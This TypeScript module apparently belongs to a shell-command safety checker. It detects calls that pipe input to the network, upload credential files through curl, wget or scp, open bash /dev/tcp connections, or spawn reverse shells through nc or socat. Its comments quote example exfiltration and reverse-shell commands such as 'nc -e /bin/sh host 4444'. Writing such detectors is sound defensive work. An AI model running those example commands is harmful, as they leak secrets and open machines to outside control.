import type { Call } from "./command-words.ts";
import { isCredentialPath } from "./credential-paths.ts";

/** Programs that pass their input on to another machine. */
const raw = /^(?:nc|ncat|netcat|socat|telnet|ftp|openssl)$/;

/** Does the call send its input away? */
export function sendsInput({ name, args }: Call): boolean {
  if (raw.test(name))
    return name !== "openssl" || args[0]?.value === "s_client";
  if (name === "curl" || name === "wget")
    return args.some(({ value }) =>
      /^@(?:-|\/dev\/stdin)$|=@-$|^-$/.test(value),
    );
  return false;
}

/** How a word of curl or wget leaves the machine: in the body or address, in a header (as a service wants its token), or not. */
export function sendsWord(call: Call, at: number): "payload" | "header" | null {
  if (raw.test(call.name)) return "payload";
  if (call.name !== "curl" && call.name !== "wget") return null;
  const previous = call.args[at - 1]?.value ?? "";
  if (/^(?:-H|--header|-u|--user|--oauth2-bearer|-b|--cookie)$/.test(previous))
    return "header";
  if (/^(?:-H.|--header=)/.test(call.args[at]?.value ?? "")) return "header";
  if (
    /^(?:-o|--output|-O|-w|--write-out|-m|--max-time|-K|--config|--key|--cert|-E)$/.test(
      previous,
    )
  )
    return null;
  return "payload";
}

/** `curl -d @~/.aws/credentials`, `wget --post-file=…`, `scp ~/.ssh/id_rsa host:` send a file by its name. */
export function sendsFile({ name, args }: Call): boolean {
  const texts = args.map(({ text }) => text);
  if (name === "curl")
    return texts.some(
      (text, at) =>
        isCredentialPath(text) &&
        (/@/.test(text) || /^(?:-T|--upload-file)$/.test(texts[at - 1] ?? "")),
    );
  if (name === "wget")
    return texts.some(
      (text, at) =>
        isCredentialPath(text) &&
        (/^--(?:post|body)-file=/.test(text) ||
          /^--(?:post|body)-file$/.test(texts[at - 1] ?? "")),
    );
  if (name === "scp" || name === "rsync" || name === "sftp")
    return texts.some(
      (text, at) =>
        isCredentialPath(text) &&
        texts[at - 1] !== "-i" &&
        texts.some((other) => other !== text && /^[^/-][^/]*:/.test(other)),
    );
  return false;
}

const network = /^["']?\/dev\/(?:tcp|udp)\//;

/** Is this the name under which bash opens a connection? */
export function isConnection(text: string): boolean {
  return network.test(text);
}

/** `nc -e /bin/sh host 4444`, `socat TCP:… EXEC:sh`. */
export function givesShell({ name, args }: Call): boolean {
  const values = args.map(({ value }) => value);
  if (name === "socat")
    return (
      values.some((value) => /^(?:EXEC|SYSTEM):.*sh\b/i.test(value)) &&
      values.some((value) => /^(?:TCP|OPENSSL|UDP)\d?:/i.test(value))
    );
  if (!/^(?:nc|ncat|netcat)$/.test(name)) return false;
  return values.some(
    (value, at) =>
      /^-\w*[ec]$|^--(?:sh-)?exec$/.test(value) &&
      /\bsh\b|\b(?:ba|z|da|k)sh\b|cmd\.exe/.test(values[at + 1] ?? ""),
  );
}
